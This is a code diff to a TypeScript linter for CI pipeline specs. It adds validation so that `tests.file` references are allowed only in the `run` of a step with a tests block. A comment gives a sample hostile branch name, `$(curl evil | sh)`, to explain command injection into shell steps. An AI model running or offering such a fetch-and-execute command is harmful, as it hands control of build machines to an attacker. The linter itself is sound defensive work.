@@ -5,7 +5,8 @@
  *   `runs-on`, `working-directory` and the cache key;
  * - `inputs.X`, `branch`, `commit`, `event`, `base_branch` come from whoever pushes or triggers:
  *   allowed only in env values and step names, never in `run`, where a branch named
- *   `$(curl evil | sh)` would become shell code. Map them into `env` and use "$VAR" instead.
+ *   `$(curl evil | sh)` would become shell code. Map them into `env` and use "$VAR" instead;
+ * - `tests.file` becomes a quoted variable, valid only in the `run` of a step with `tests:`.
  */
 import { type InterpolationRef, OPEN, scanInterpolations } from "../compile/interpolate.js";
 import type { LintContext } from "./lint-context.js";
@@ -47,6 +48,14 @@ function checkRef(ctx: LintContext, path: PropertyKey[], field: string, allowed:
     const keys = new Set(job ? ctx.matrices.get(job)?.keys : []);
     if (!keys.has(key)) {
       const message = job ? `job '${job}' has no matrix key '${key}'` : `${ref.text}: there is no matrix outside a job`;
+      ctx.report("error", "unknown-reference", message, at);
+    }
+  } else if (root === "tests") {
+    const step = path[2] === "steps" ? ctx.spec.jobs[String(path[1])]?.steps?.[Number(path[3])] : undefined;
+    if (key !== "file") {
+      ctx.report("error", "unknown-reference", `${ref.text}: the only test reference is tests.file`, at);
+    } else if (field !== "run" || !step?.tests) {
+      const message = `${ref.text} is only defined in the run of a step with a tests: block`;
       ctx.report("error", "unknown-reference", message, at);
     }
   } else if (root === "inputs" && !Object.hasOwn(ctx.spec.on?.manual?.inputs ?? {}, key)) {
